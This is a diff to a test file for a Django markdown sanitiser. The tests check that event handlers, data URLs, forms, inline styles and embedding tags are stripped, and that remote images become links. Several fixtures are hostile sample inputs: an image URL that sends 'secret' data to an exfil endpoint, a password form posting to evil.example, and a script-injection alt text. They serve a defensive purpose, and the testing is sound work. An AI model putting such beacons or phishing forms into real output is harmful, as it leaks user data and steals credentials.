@@ -3,7 +3,13 @@
 from __future__ import annotations
 
 import re
+from typing import Any
 
+import pytest
+from django.template import Context, Template
+from pygments.token import STANDARD_TYPES  # type: ignore[import-untyped]
+
+from conversations import markdown
 from conversations.markdown import render
 
 
@@ -56,7 +62,7 @@ def test_it_removes_event_handler_attributes():
 
     assert "onerror" not in html
     assert "onclick" not in html
-    assert 'src="https://example.com/a.png"' in html
+    assert 'href="https://example.com/a.png"' in html
 
 
 def test_it_drops_the_href_of_javascript_links():
@@ -90,7 +96,8 @@ def test_it_removes_data_urls_from_images():
     html = render("![pixel](data:image/png;base64,iVBORw0KGgo=)")
 
     assert "data:" not in html
-    assert "<img" in html
+    # An image left without an address is its alt text.
+    assert html == "<p>pixel</p>"
 
 
 def test_it_escapes_plain_text():
@@ -101,3 +108,109 @@ def test_it_escapes_html_inside_code():
     html = render("`<b>not bold</b>`")
 
     assert "<code>&lt;b&gt;not bold&lt;/b&gt;</code>" in html
+
+
+# --- Remote images (issue 7, item 7) --------------------------------------------------
+
+
+def test_images_in_model_output_become_links_by_default():
+    html = render('![x](http://127.0.0.1:9/exfil?d=secret) and <img src="https://a.example/b.png">')
+
+    assert "<img" not in html
+    assert (
+        '<a href="http://127.0.0.1:9/exfil?d=secret" class="remote-image"'
+        ' rel="noopener noreferrer nofollow">x</a>'
+    ) in html
+    # No alt text: the address is the link's text.
+    assert ">https://a.example/b.png</a>" in html
+
+
+def test_an_image_link_escapes_its_alt_text():
+    html = render('<img src="https://a.example/b.png" alt="&quot;><script>x</script>">')
+
+    assert "<script" not in html
+    assert '>"&gt;&lt;script&gt;x&lt;/script&gt;</a>' in html
+
+
+def test_images_load_when_the_admin_allows_remote_images(settings: Any):
+    settings.ALLOW_REMOTE_IMAGES = True
+
+    html = render("![x](https://a.example/b.png)")
+
+    assert '<img alt="x" src="https://a.example/b.png">' in html
+
+
+def test_the_page_applies_todays_image_setting_to_stored_html(settings: Any):
+    settings.ALLOW_REMOTE_IMAGES = True
+    stored = render("![x](https://a.example/b.png)")
+    settings.ALLOW_REMOTE_IMAGES = False
+
+    shown = Template("{% load markdown %}{{ html|message_html }}").render(Context({"html": stored}))
+
+    assert "<img" not in shown
+    assert 'class="remote-image"' in shown
+
+
+# --- One allow-list (issue 7, item 8) ------------------------------------------------
+
+
+def test_it_removes_forms_and_inputs_keeping_their_text():
+    html = render(
+        '<form action="https://evil.example/steal"><input name="password" placeholder="pw">'
+        "<button>Sign in again</button></form>"
+    )
+
+    assert "<form" not in html
+    assert "<input" not in html
+    assert "<button" not in html
+    assert "evil.example" not in html
+    assert "Sign in again" in html
+
+
+def test_it_removes_style_attributes():
+    html = render('<div style="position:fixed;inset:0">cover</div>')
+
+    assert "style" not in html
+    assert "position" not in html
+    assert html == "<div>cover</div>"
+
+
+def test_it_keeps_only_the_renderers_own_classes():
+    html = render(
+        '<div class="callout-error msg">Answer failed</div>\n\n'
+        '<span class="k nf toast">x</span> <code class="language-python bogus">y</code>'
+    )
+
+    assert "callout-error" not in html
+    assert "toast" not in html
+    assert "bogus" not in html
+    assert "<div>Answer failed</div>" in html
+    assert '<span class="k nf">x</span>' in html
+    assert '<code class="language-python">y</code>' in html
+
+
+def test_a_language_class_must_look_like_a_language():
+    html = render('<code class="language-x&quot;y language-">z</code>')
+
+    assert "class" not in html
+
+
+@pytest.mark.parametrize("tag", ["iframe", "object", "embed", "textarea", "select", "svg"])
+def test_it_removes_embedding_and_input_elements(tag: str):
+    html = render(f"<{tag}>inside</{tag}> after")
+
+    assert f"<{tag}" not in html
+    assert "after" in html
+
+
+def test_the_policy_names_every_pygments_token_class():
+    token_classes = {name for name in STANDARD_TYPES.values() if name}
+
+    assert token_classes <= set(markdown.policy()["classes"]["span"])
+
+
+def test_the_policy_file_is_the_one_the_browser_loads():
+    # render.js imports the same file through the import map (templates/base.html).
+    base = (markdown.POLICY_PATH.parents[1] / "templates" / "base.html").read_text()
+    assert "{% static 'render-policy.json' %}" in base
+    assert markdown.POLICY_PATH.parent.name == "static"
